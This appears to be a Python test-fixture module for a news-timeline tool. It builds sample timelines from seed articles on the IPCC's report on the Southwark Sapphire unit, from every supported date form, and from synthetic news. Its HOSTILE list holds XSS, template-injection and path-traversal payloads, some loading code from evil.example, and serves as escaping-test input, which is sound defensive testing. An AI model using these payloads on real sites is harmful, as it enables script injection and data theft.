"""Timelines for tests, built from model values alone: the five seed documents, every form of date, hostile text.

Nothing here runs the other stages. Quotes are cut from the raw text by offset, as the stages do it.
"""

from __future__ import annotations

import hashlib
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, replace
from pathlib import Path

from timeline.model import (
    Basis,
    Conflict,
    DateMention,
    Document,
    Event,
    EventMention,
    EventType,
    Feature,
    Merge,
    Name,
    NameKind,
    Note,
    Problem,
    Published,
    Rejected,
    Relation,
    Statement,
    Timeline,
)
from timeline.spans import Alignment, Span
from timeline.when import When, parse

SEEDS = Path(__file__).parents[2] / "seeds"
_SENTENCE = re.compile(r"[^\n]+?(?:[.!?][\"”’]?(?=\s)|(?=\n)|$)")


def document(name: str, raw: str, title: str | None = None, published: Published | None = None) -> Document:
    """A document that needs no cleaning."""
    digest = hashlib.sha256(raw.encode("utf-8", "surrogatepass")).hexdigest()
    found = (m.span() for m in _SENTENCE.finditer(raw))
    trimmed = ((s + len(raw[s:e]) - len(raw[s:e].lstrip()), e) for s, e in found)
    sentences = tuple(Span(start, end) for start, end in trimmed if start < end)
    return Document(
        id=f"doc-{digest[:10]}",
        sources=(name,),
        sha256=digest,
        raw=raw,
        text=raw,
        alignment=Alignment.identity(len(raw)),
        sentences=sentences,
        title=title,
        published=published,
    )


@dataclass(frozen=True)
class Told:
    """One mention, by offsets."""

    document: Document
    sentence: tuple[int, int]
    date: tuple[int, int] | None = None
    edtf: str | None = None
    relation: Relation = "dates"
    basis: Basis | None = "explicit"
    rule: str = "month-name-year"
    anchor: str | None = None
    names: tuple[tuple[str, NameKind], ...] = ()


def mention(told: Told, headline: str, type: EventType) -> EventMention:
    """The mention as the events and infer stages would hand it on."""
    sentence = Span(*told.sentence)
    date = date_quote = None
    when = parse(told.edtf) if told.edtf else None
    if told.date:
        span = Span(*told.date)
        date_quote = told.document.quote(span)
        date = DateMention(span, date_quote.text, when, told.rule)
    return EventMention(
        document=told.document.id,
        sentence=sentence,
        clause=sentence,
        quote=told.document.quote(sentence),
        relation=told.relation,
        date=date,
        date_quote=date_quote,
        headline=headline,
        type=type,
        act=None,
        names=tuple(Name(text, kind) for text, kind in told.names),
        when=when,
        basis=told.basis if told.date else None,
        anchor=told.anchor,
    )


def event(
    title: str,
    type: EventType,
    when: When | None,
    told: Sequence[Told],
    *,
    basis: Basis = "explicit",
    same: Iterable[Sequence[int]] = (),
    conflicts: tuple[tuple[str, str, tuple[tuple[str, tuple[int, ...]], ...]], ...] = (),
    merges: Iterable[tuple[int, int, tuple[tuple[str, float, str], ...]]] = (),
) -> Event:
    """An event; `same`, `conflicts` and `merges` name mentions by their place in `told`, from 0."""
    mentions = tuple(mention(one, title, type) for one in told)
    keys = [m.key for m in mentions]
    identity = f"{told[0].document.sha256}:{told[0].sentence[0]}:{title}"
    return Event(
        id=f"ev-{hashlib.sha256(identity.encode('utf-8', 'surrogatepass')).hexdigest()[:10]}",
        aliases=(),
        title=title,
        title_from=keys[0],
        type=type,
        when=when,
        basis=basis if when else None,
        mentions=mentions,
        groups=tuple(tuple(keys[n] for n in group) for group in same),
        merges=tuple(
            Merge(keys[a], keys[b], round(sum(f[1] for f in features), 2), tuple(Feature(*f) for f in features))
            for a, b, features in merges
        ),
        conflicts=tuple(
            Conflict(
                field,  # type: ignore[arg-type]
                severity,  # type: ignore[arg-type]
                tuple(Statement(text, tuple(keys[n] for n in by)) for text, by in sides),
            )
            for field, severity, sides in conflicts
        ),
    )


def timeline(
    title: str,
    documents: Sequence[Document],
    events: Iterable[Event],
    undated: Iterable[Event] = (),
    rejected: Iterable[Rejected] = (),
    problems: Iterable[Problem] = (),
    notes: Iterable[Note] = (),
) -> Timeline:
    """A timeline, sorted as `merge` sorts it."""
    digests = "".join(sorted(d.sha256 for d in documents))
    return Timeline(
        title=title,
        documents=tuple(documents),
        events=tuple(sorted(events, key=lambda e: (*(e.when.sort_key if e.when else (0.0, 0.0, "")), e.id))),
        undated=tuple(undated),
        rejected=tuple(rejected),
        problems=tuple(problems),
        notes=tuple(notes),
        config_sha256="0" * 64,
        inputs_sha256=hashlib.sha256(digests.encode()).hexdigest(),
        version="0.1.0",
    )


IPCC = ("Independent Police Complaints Commission", "organisation")
SAY = ("Jean Say", "person")
UNIT = ("Southwark Sapphire unit", "organisation")
MET = ("Metropolitan Police", "organisation")
GLASS = ("Deborah Glass", "person")
SOUTHWARK = ("Southwark", "place")
WALWORTH = ("Walworth police station", "place")


def seed_documents() -> tuple[Document, ...]:
    """The five seed documents, two dated by themselves and three from the passages they share with 003."""
    raws = [(path.name, path.read_bytes().decode("utf-8")) for path in sorted(SEEDS.glob("*.txt"))]
    titles = (
        None,
        "Met Police rape victim failings",
        "Met rape unit criticised",
        "IPCC finds failings in the working practices of MPS Southwark Sapphire Unit",
        "Police must listen to and learn from victims of rape.",
    )
    zero, one, two, three, four = (document(n, raw, t) for (n, raw), t in zip(raws, titles, strict=True))
    dateline, passage = three.raw_quote(Span(165, 192)), three.raw_quote(Span(1695, 2012))
    shared = "it prints the statement that 003_56c914fec33e7a81.txt of 26 February 2013 prints (73 shared passages)"
    borrowed = parse("2013-02-26?")

    def dated(doc: Document, published: Published) -> Document:
        return replace(doc, published=published)

    return (
        dated(
            zero,
            Published(borrowed, "inferred", shared, (zero.raw_quote(Span(480, 799)), passage, dateline)),
        ),
        dated(
            one,
            Published(borrowed, "inferred", shared, (one.raw_quote(Span(2254, 2482)), passage, dateline)),
        ),
        dated(
            two,
            Published(borrowed, "inferred", shared, (two.raw_quote(Span(5295, 5618)), passage, dateline)),
        ),
        dated(three, Published(parse("2013-02-26"), "stated", "Dateline on line 7", (dateline,))),
        dated(
            four,
            Published(
                parse("2013-03-28"), "stated", "Dateline on line 5, day first", (four.raw_quote(Span(129, 137)),)
            ),
        ),
    )


def seeds() -> Timeline:
    """The eight gold events of the seeds that carry a date, three that do not, and what was rejected."""
    d0, d1, d2, d3, d4 = docs = seed_documents()
    today = "the publication date of the document, 26 February 2013 (stated: dateline on line 7)"
    shared = "inferred: shared passage with 003_56c914fec33e7a81.txt"
    inferred = f"the publication date of the document, 26 February 2013 ({shared})"
    month, year = "month-name-year", "bare-year-after-in"
    span = "2008-07/2009-09"
    period = event(
        "Southwark Sapphire unit's working practices that the IPCC investigated",
        "investigation",
        parse(span),
        [
            Told(d3, (51, 163), (135, 163), span, rule="between-months", names=(UNIT,)),
            Told(d3, (194, 391), (362, 390), span, rule="between-months", names=(IPCC, UNIT)),
            Told(d1, (1787, 1973), (1951, 1972), span, rule="between-months", names=(IPCC, MET)),
            Told(d1, (1738, 1786), (1777, 1786), "2008/2009", rule="year-to-year", names=(MET,)),
            Told(d2, (3693, 3856), (3827, 3855), span, rule="between-months", names=(MET, SOUTHWARK)),
            Told(d4, (194, 384), (376, 383), "2008/2009", rule="year-to-short-year", names=(IPCC, SOUTHWARK)),
            Told(d3, (733, 981), None, relation="supports", names=(UNIT,)),
            Told(d2, (7006, 7255), None, relation="supports", names=(UNIT,)),
        ],
        same=[(6, 7)],
        conflicts=(("when", "coarser", ((span, (0, 1, 2, 4)), ("2008/2009", (3, 5)))),),
        merges=[
            (
                0,
                1,
                (
                    ("same-dates", 6.0, "both say July 2008 to September 2009"),
                    ("rare-name", 4.5, "Southwark Sapphire unit"),
                    ("copy", 2.0, "11 shared words"),
                ),
            ),
            (
                0,
                2,
                (
                    ("same-dates", 6.0, "both say July 2008 to September 2009"),
                    ("lemma", 3.5, "failings, working practices"),
                    ("rare-name", 2.0, "Sapphire"),
                ),
            ),
            (
                3,
                5,
                (("same-dates", 6.0, "both say 2008 to 2009"), ("lemma", 3.0, "failings"), ("other-unit", -1.0, "")),
            ),
            (6, 7, (("copy", 14.0, "one sentence in two documents"),)),
        ],
    )
    report = event(
        "A woman reports rape by Jean Say at Walworth police station",
        "crime",
        parse("2008-11"),
        [
            Told(d3, (591, 731), (686, 699), "2008-11", rule=month, names=(WALWORTH,)),
            Told(d3, (2014, 2117), (2075, 2088), "2008-11", rule=month),
            Told(d0, (800, 903), (861, 874), "2008-11", rule=month),
            Told(d0, (138, 366), (175, 179), "2008", rule=year, names=(SAY, IPCC)),
            Told(d4, (721, 824), (775, 788), "2008-11", rule=month, names=(SAY,)),
            Told(d0, (967, 1133), relation="supports", names=(WALWORTH,)),
            Told(d1, (1202, 1397), relation="supports", names=(SAY, UNIT)),
            Told(d1, (1031, 1201), relation="supports"),
            Told(d2, (2979, 3112), relation="supports"),
        ],
        same=[(1, 2)],
        conflicts=(
            (
                "outcome",
                "differs",
                (
                    ("persuaded to withdraw her complaint", (3,)),
                    ("dismissed: the circumstances did not constitute rape", (6,)),
                    ("detectives failed to investigate", (8,)),
                    ("did not have her case investigated", (4,)),
                ),
            ),
            ("when", "coarser", (("2008-11", (0, 1, 2, 4)), ("2008", (3,)))),
        ),
        merges=[
            (1, 2, (("copy", 15.0, "one quotation in two documents"),)),
            (
                0,
                1,
                (
                    ("same-dates", 5.0, "both say November 2008"),
                    ("lemma", 4.0, "rape reported"),
                    ("same-document", -1.0, ""),
                ),
            ),
            (
                3,
                4,
                (
                    ("rare-name", 6.0, "Jean Say"),
                    ("lemma", 3.5, "rape"),
                    ("dates-within", 2.0, "2008 holds November 2008"),
                ),
            ),
        ],
    )
    said_2009 = [
        Told(
            d2,
            (4345, 4480),
            (4348, 4352),
            "2009",
            rule=year,
            names=(("Specialist Crime and Operations", "organisation"),),
        ),
        Told(d2, (5620, 5738), (5632, 5636), "2009", rule=year),
        Told(d3, (2186, 2299), (2193, 2197), "2009", rule=year),
    ]
    jailed = [
        Told(d0, (367, 464), (411, 415), "2011", rule=year, names=(SAY,)),
        Told(d4, (989, 1018), relation="supports"),
    ]
    october = Told(
        d0,
        (1974, 2152),
        (2076, 2093),
        "2012-10?",
        basis="inferred",
        rule="month-last-year",
        anchor=inferred,
        names=(("Ryan Coleman-Farrow", "person"), SOUTHWARK),
    )
    meeting = [
        Told(d3, (2571, 2836), (2794, 2807), "2012-12", rule=month, names=(IPCC,)),
        Told(d2, (6012, 6277), (6235, 6248), "2012-12", rule=month, names=(IPCC,)),
    ]
    day = "2013-02-26"
    published = [
        Told(d3, (165, 192), (165, 192), day, "dateline", rule="dateline"),
        Told(d3, (194, 391), (249, 254), day, basis="relative", rule="today", anchor=today, names=(IPCC, UNIT)),
        Told(d3, (591, 731), (725, 730), day, basis="relative", rule="today", anchor=today),
        Told(d3, (1585, 1691), (1586, 1592), day, basis="relative", rule="todays", anchor=today, names=(IPCC, GLASS)),
        Told(
            d2, (5184, 5293), (5185, 5192), day, basis="inferred", rule="todays", anchor=inferred, names=(IPCC, GLASS)
        ),
        Told(d2, (6984, 7004), (6998, 7003), day, basis="inferred", rule="today", anchor=inferred, names=(IPCC,)),
        Told(
            d4,
            (194, 384),
            (261, 269),
            "[..2013-03-28]",
            "bounds",
            basis="relative",
            rule="recently",
            anchor="the publication date of the document, 28 March 2013 (stated: dateline on line 5)",
            names=(IPCC,),
        ),
        Told(d0, (138, 366), relation="supports", names=(IPCC,)),
        Told(d1, (44, 147), relation="supports"),
        Told(d2, (40, 265), relation="supports", names=(IPCC, UNIT)),
    ]
    killed = Told(d4, (825, 988), relation="supports", names=(("Regina", "person"), ("Rolls", "person")))
    summoned = Told(
        d4, (1620, 1772), relation="supports", names=(("Tessa Jowell", "person"), ("Simon Hughes", "person"))
    )
    statement = [
        Told(d2, (3501, 3691), relation="supports", names=(MET,)),
        Told(d1, (792, 982), relation="supports", names=(MET,)),
    ]
    return timeline(
        "The Southwark Sapphire unit",
        docs,
        [
            period,
            report,
            event(
                "Sapphire is moved to Specialist Crime and Operations",
                "organisation",
                parse("2009"),
                said_2009,
                same=[(1, 2)],
                merges=[
                    (1, 2, (("copy", 15.0, "one quotation in two documents"),)),
                    (
                        0,
                        1,
                        (
                            ("same-dates", 4.0, "both say 2009"),
                            ("rare-name", 3.0, "Sapphire"),
                            ("lemma", 3.5, "moved, came under"),
                        ),
                    ),
                ],
            ),
            event(
                "Jean Say is jailed for a minimum of 30 years for killing his son and daughter",
                "legal",
                parse("2011"),
                jailed,
                merges=[(0, 1, (("lemma", 6.0, "jailed"), ("rare-name", 5.0, "He is Jean Say")))],
            ),
            event(
                "Det Con Ryan Coleman-Farrow is jailed for 16 months",
                "legal",
                parse("2012-10?"),
                [october],
                basis="inferred",
            ),
            event(
                "Meeting at the IPCC with those who deal with victims",
                "meeting",
                parse("2012-12"),
                meeting,
                same=[(0, 1)],
                merges=[(0, 1, (("copy", 16.0, "one quotation in two documents"),))],
            ),
            event(
                "The IPCC publishes its report on the Southwark Sapphire unit",
                "publication",
                replace(parse(day), time="12:52"),
                published,
                same=[(3, 4)],
                merges=[
                    (3, 4, (("copy", 13.0, "one quotation in two documents"),)),
                    (1, 2, (("same-dates", 6.0, "both say today"), ("lemma", 5.0, "publishing the findings"))),
                ],
            ),
            event(
                "Harriet Harman's column: police must listen to and learn from victims of rape",
                "publication",
                parse("2013-03-28"),
                [
                    Told(
                        d4,
                        (105, 137),
                        (129, 137),
                        "2013-03-28",
                        "dateline",
                        rule="numeric-day-first",
                        names=(("Harriet Harman", "person"),),
                    )
                ],
            ),
            event(
                "Jean Say kills his daughter Regina, 8, and son Rolls, 10",
                "crime",
                parse("[2008-11..2011-12]"),
                [
                    killed,
                    Told(d0, (367, 464), (411, 415), "[..2011-12]", "bounds", rule=year, names=(SAY,)),
                    Told(d2, (3114, 3218), relation="supports"),
                ],
            ),
        ],
        undated=[
            event("Southwark MPs summon the Met to a meeting in the House of Commons", "meeting", None, [summoned]),
            event(
                "The Metropolitan Police issues a statement in reaction to the report",
                "statement",
                None,
                statement,
                same=[(0, 1)],
            ),
        ],
        rejected=[
            Rejected(doc.raw_quote(Span(start, end)), reason)
            for doc, start, end, reason in (
                (d0, 148, 150, "age"),
                (d0, 399, 407, "duration"),
                (d0, 455, 463, "age"),
                (d0, 1354, 1364, "percentage"),
                (d0, 1382, 1385, "ordinal"),
                (d0, 2063, 2072, "duration"),
                (d1, 2, 3, "counter"),
                (d2, 4653, 4656, "percentage"),
                (d3, 4100, 4104, "copyright-footer"),
                (d4, 874, 875, "age"),
                (d4, 897, 899, "age"),
            )
        ],
        problems=[
            Problem(
                "scans/letter-1987.pdf",
                "acquire",
                "unreadable",
                "no reader for '.pdf'; install the extra 'ingest' to read it",
            )
        ],
    )


FORMS: tuple[tuple[str, str, EventType], ...] = (
    ("2013-02-26", "The commission publishes its report", "publication"),
    ("2012-06-10~", "The first complaint reaches the office", "statement"),
    ("2012-06-14?", "A second officer is interviewed", "investigation"),
    ("2012-06-20%", "The file is thought to have been lost", "investigation"),
    ("2008-11", "A woman goes to the police station", "crime"),
    ("2009-03~", "The detective is transferred", "appointment"),
    ("2009-05?", "The case is closed without charge", "legal"),
    ("2009-22", "The unit is reviewed", "organisation"),
    ("2010-24?", "A winter of staff cuts", "organisation"),
    ("2011", "He is jailed for life", "legal"),
    ("2007~", "The unit is founded", "organisation"),
    ("2006?", "The first guidance is written", "publication"),
    ("199X", "Complaints go unanswered", "other"),
    ("18XX", "The river floods the old town", "disaster"),
    ("2008-07/2009-09", "The period that was investigated", "investigation"),
    ("2008-07-01/2008-07-14", "The strike", "conflict"),
    ("2010/..", "The unit stays under central command", "organisation"),
    ("../2009-04", "The old procedure is in force", "business"),
    ("2003~/2005~", "The building works", "business"),
    ("[2008-11..2011-12]", "Two children are killed", "crime"),
    ("[..2013-03-28]", "The unit is disbanded", "organisation"),
    ("[2012-01-15..]", "The archive is opened", "science"),
    ("-0043-03-15", "Caesar is stabbed in the senate", "politics"),
    ("-0499", "A revolt begins in Ionia", "conflict"),
    ("1066-10-14", "The battle of Hastings", "conflict"),
    ("1969-07-20", "A man walks on the Moon", "science"),
)
"""Every form of date that `when` knows, each with an event that could carry it."""


def forms(edtfs: Iterable[str] | None = None) -> Timeline:
    """One event for every form of date; two of them in conflict, one with a clock time, some inferred."""
    wanted = set(edtfs) if edtfs is not None else None
    raw, places = "", []
    for edtf, title, type in FORMS:
        if wanted is not None and edtf not in wanted:
            continue
        words = parse(edtf).in_words()
        start = len(raw)
        raw += f"{title}, {words}."
        places.append((edtf, title, type, (start, len(raw)), (start + len(title) + 2, len(raw) - 1)))
        raw += "\n"
    doc = document(
        "forms.txt", raw, "Every form of a date", Published(parse("2014-01-01"), "given", "Given with --published")
    )
    events = []
    for number, (edtf, title, type, sentence, date) in enumerate(places):
        when = parse(edtf)
        if edtf == "1969-07-20":
            when = replace(when, time="20:17", timezone="UTC")
        told = [Told(doc, sentence, date, edtf, basis="inferred" if when.uncertain else "explicit")]
        conflicts: tuple[tuple[str, str, tuple[tuple[str, tuple[int, ...]], ...]], ...] = ()
        if edtf in ("2013-02-26", "2011") and number + 1 < len(places):
            told.append(Told(doc, places[number - 1][3], relation="supports"))
            conflicts = (("when", "contradicts", ((edtf, (0,)), ("2014", (1,)))),)
        events.append(
            event(title, type, when, told, basis="inferred" if when.uncertain else "explicit", conflicts=conflicts)
        )
    return timeline("Every form of a date", [doc], events)


HOSTILE = (
    "</script><script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    "<a href='javascript:window.hacked=1'>click</a>",
    "<b>bold</b> & <i>italic</i> &lt;already&gt;",
    "<!--<script>",
    "]]> ${alert(1)} {{7*7}} {% raw %} `tick`",
    "\u202egnitirw-ot-thgir\u202c and \u2066isolate\u2069",
    "nul \x00 bell \x07 del \x7f",
    "\u2028line separator\u2029 and \ud800 lone surrogate",
    '" onmouseover="window.hacked=1" x="',
    "<svg/onload=window.hacked=1>",
    "<template><style>*{display:none}</style></template>",
    "😀 astral 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 before the date",
    "<span style='position:fixed;inset:0'>cover</span>",
    "</title><script>window.hacked=1</script>",
    "</style><script>window.hacked=1</script>",
    "</textarea></select></template></noscript><script>window.hacked=1</script>",
    "--><script>window.hacked=1</script>",
    "<!-- <script> -- ><script>window.hacked=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>window.hacked=1</scr</script>ipt>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<iframe src=javascript:parent.hacked=1>",
    "<object data=javascript:window.hacked=1></object>",
    "<embed src='data:image/svg+xml,<svg onload=window.hacked=1>'>",
    "<svg><script>window.hacked=1</script></svg>",
    "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.hacked=1>#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input autofocus onfocus=window.hacked=1>",
    "<body onload=window.hacked=1>",
    "<details open ontoggle=window.hacked=1>x</details>",
    "<video><source onerror=window.hacked=1></video>",
    "<marquee onstart=window.hacked=1>m</marquee>",
    "javascript:window.hacked=1//",
    "data:text/html,<script>window.hacked=1</script>",
    "' onclick='window.hacked=1' x='",
    "` onclick=`window.hacked=1` x=`",
    "{{constructor.constructor('window.hacked=1')()}}",
    "${window.hacked=1} #{window.hacked=1} <%= window.hacked=1 %>",
    "__proto__ constructor toString hasOwnProperty",
    "\ufeffbyte order mark \u200bzero width\u200d joiner \u00adsoft hyphen",
    "\u202a\u202b\u202d\u2066\u2067\u2068 never closed",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031ea\u0349\u0347\u031elgo",
    "..%2f..%2fetc/passwd%00.html?x=1&y=2#z",
    "&#60;script&#62;window.hacked=1&#60;/script&#62; &lt;b&gt;",
    "\\u003cscript\\u003ewindow.hacked=1\\x3c/script\\x3e",
)


def hostile() -> Timeline:
    """Text that would like to be markup, in every place where a document's words are shown, file names among them."""
    documents, events = [], []
    for number, text in enumerate(HOSTILE):
        edtf = f"2001-{number // 28 + 5:02}-{number % 28 + 1:02}"
        sentence = f"{text}, on {parse(edtf).in_words()}."
        doc = replace(
            document(f"{text}.txt", f"{sentence}\n", text),
            metadata={"url": "javascript:window.hacked=1", "author": text},
            published=Published(parse("2001-09-01"), "given", text),
        )
        names: tuple[tuple[str, NameKind], ...] = ((text, "person"), (text, "organisation"), (text, "place"))
        start = len(text) + len(", on ")
        told = Told(doc, (0, len(sentence)), (start, len(sentence) - 1), edtf, anchor=text, rule=text, names=names)
        conflict = (("who", "differs", ((text, (0,)), ("no", (0,)))),)
        events.append(
            event(text, "other", parse(edtf), [told], merges=[(0, 0, ((text, 1.0, text),))], conflicts=conflict)
        )
        documents.append(doc)
    return timeline(
        HOSTILE[0],
        documents,
        events,
        rejected=[Rejected(doc.raw_quote(Span(0, 10)), doc.name) for doc in documents],
        problems=[Problem(text, "acquire", text, text) for text in HOSTILE],
        notes=[Note(doc.id, doc.name) for doc in documents],
    )


def many(count: int) -> Timeline:
    """So many events over twelve years in one document a hundred, with the spread of precisions of real news."""
    types: tuple[EventType, ...] = (
        "crime",
        "legal",
        "politics",
        "statement",
        "meeting",
        "business",
        "disaster",
        "life",
    )
    verbs = (
        "opens an inquiry into",
        "rejects the claims of",
        "meets the lawyers of",
        "charges two men over",
        "publishes a report on",
    )
    people = ("Ana Torres", "Ben Okafor", "Chen Li", "Dora Weiss", "Emil Novak", "Fatima Khan", "Grace Moore")
    things = (
        "the harbour contract",
        "the missing files",
        "the hospital fire",
        "the railway sale",
        "the night shift",
        "the ferry disaster",
    )
    documents, events = [], []
    for first in range(0, count, 100):
        raw, rows = "", []
        for n in range(first, min(first + 100, count)):
            day = n * 2654435761 % (12 * 336)
            year, month, date = 2001 + day // 336, day % 336 // 28 + 1, day % 28 + 1
            edtf = (f"{year}-{month:02}-{date:02}", f"{year}-{month:02}-{date:02}", f"{year}-{month:02}", f"{year}")[
                n * 7 % 4 if n % 5 else 0
            ]
            who, verb, what = people[n % 7], verbs[n * 3 % 5], things[n * 5 % 6]
            sentence = f"{who} {verb} {what}"
            start = len(raw)
            raw += f"{sentence} in case {n}, {parse(edtf).in_words()}."
            rows.append(
                (
                    sentence,
                    types[n * 5 % 8],
                    who,
                    (start, len(raw)),
                    (start + len(f"{sentence} in case {n}, "), len(raw) - 1),
                    edtf,
                )
            )
            raw += "\n"
        doc = document(
            f"news/{first // 100:03}.txt", raw, None, Published(parse("2013"), "file", "From the file's name")
        )
        documents.append(doc)
        events += [
            event(f"{title} ({edtf})", type, parse(edtf), [Told(doc, sentence, date, edtf, names=((who, "person"),))])
            for title, type, who, sentence, date, edtf in rows
        ]
    return timeline(f"{count} events", documents, events)
